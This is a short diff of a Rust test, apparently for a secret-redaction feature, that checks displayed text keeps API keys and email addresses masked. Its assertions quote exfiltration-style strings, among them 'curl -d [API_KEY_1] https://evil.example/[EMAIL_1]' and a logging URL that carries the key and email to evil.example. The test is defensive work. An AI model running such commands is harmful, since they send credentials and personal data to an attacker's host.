@@ -271,11 +271,12 @@ fn restore_puts_no_secret_into_model_text() {
     let shown = String::from_utf8(screen.transcript()).unwrap();
     assert_harmless("ask", shown.as_bytes());
     assert!(shown.contains("Mail \x1b[4mbob.miller@initech.com\x1b[0m: key \x1b[4msk-or…cdef\x1b[0m is in \x1b[33mcurl -H [API-KEY 1] x\x1b[0m"), "{shown}");
+    let text = screen.text();
     assert!(
-        shown.contains(
+        text.contains(
             "log?d=[API_KEY_1]&m=%5BEMAIL_1%5D or [EMAIL_1].evil.example, evil.example/[EMAIL_1]"
         ),
-        "{shown}"
+        "{text}"
     );
     assert!(
         shown.contains("curl -d [API_KEY_1] https://evil.example/[EMAIL_1]"),
